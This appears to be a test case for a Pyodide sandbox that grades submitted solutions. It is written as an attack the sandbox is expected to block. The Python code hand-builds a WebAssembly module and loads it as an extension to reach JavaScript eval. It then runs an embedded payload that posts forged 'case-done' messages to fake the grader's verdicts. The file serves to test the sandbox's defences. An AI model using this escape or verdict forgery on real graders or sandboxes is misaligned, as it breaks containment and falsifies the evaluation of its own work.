# include: reference
# expect-status: error, pass
# expect-message: found no way to JavaScript
# also-plain: yes
# With neither ffi nor ctypes: Python writes a WebAssembly module of its own to the file system and loads it as an
# extension module. Pyodide links it like any other (dlopen), so its imports reach every JavaScript function
# Pyodide's own code calls: this one's PyInit calls emscripten_run_script, i.e. eval, on text of the solution's.
# In the "maths" case it has eval forge this case's verdict in the page.
import importlib.machinery
import importlib.util

_solve = run_agent
PAYLOAD = b"""
for (let runId = 1; runId < 300; runId++) for (let index = 0; index < 40; index++) self.postMessage({type: "case-done",
  runId, index, crashed: false, outcome: {kind: "error", phase: "call", error: "JavaScript ran", output: "", trace: []}});
\0"""
BYTES_DATA = 16  # where a bytes object's characters start, from its address (32-bit CPython)


def _leb(n, signed=False):
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        done = (n == 0 and not byte & 0x40) or (n == -1 and byte & 0x40) if signed else n == 0
        out.append(byte if done else byte | 0x80)
        if done:
            return bytes(out)


def _section(kind, payload):
    return bytes([kind]) + _leb(len(payload)) + payload


def _name(text):
    return _leb(len(text)) + text.encode()


def _vector(items):
    return _leb(len(items)) + b"".join(items)


def side_module(text_address):
    """A module Emscripten links: no memory of its own (dylink.0), one import (emscripten_run_script), one export
    (PyInit_evil, which calls it on the text at `text_address` and returns NULL)."""
    dylink = _section(0, _name("dylink.0") + b"\x01" + _leb(4) + b"\x00\x00\x00\x00")
    types = _section(1, _vector([b"\x60\x01\x7f\x00", b"\x60\x00\x01\x7f"]))  # (i32) -> (), () -> i32
    imports = _section(2, _vector([_name("env") + _name("emscripten_run_script") + b"\x00\x00"]))
    functions = _section(3, _vector([b"\x01"]))
    exports = _section(7, _vector([_name("PyInit_evil") + b"\x00\x01"]))
    body = b"\x00\x41" + _leb(text_address, signed=True) + b"\x10\x00\x41\x00\x0b"
    code = _section(10, _vector([_leb(len(body)) + body]))
    return b"\x00asm\x01\x00\x00\x00" + dylink + types + imports + functions + exports + code


def load_own_webassembly():
    path = "/tmp/evil.so"
    with open(path, "wb") as file:
        file.write(side_module(id(PAYLOAD) + BYTES_DATA))
    loader = importlib.machinery.ExtensionFileLoader("evil", path)
    try:
        importlib.util.module_from_spec(importlib.util.spec_from_file_location("evil", path, loader=loader))
    except ImportError as exc:  # refused before its PyInit ran
        raise RuntimeError(f"found no way to JavaScript ({exc})") from None
    except SystemError:  # its PyInit ran, and returned NULL as written
        pass


def run_agent(task, script, **options):
    if task == "maths":
        load_own_webassembly()
    return _solve(task, script, **options)
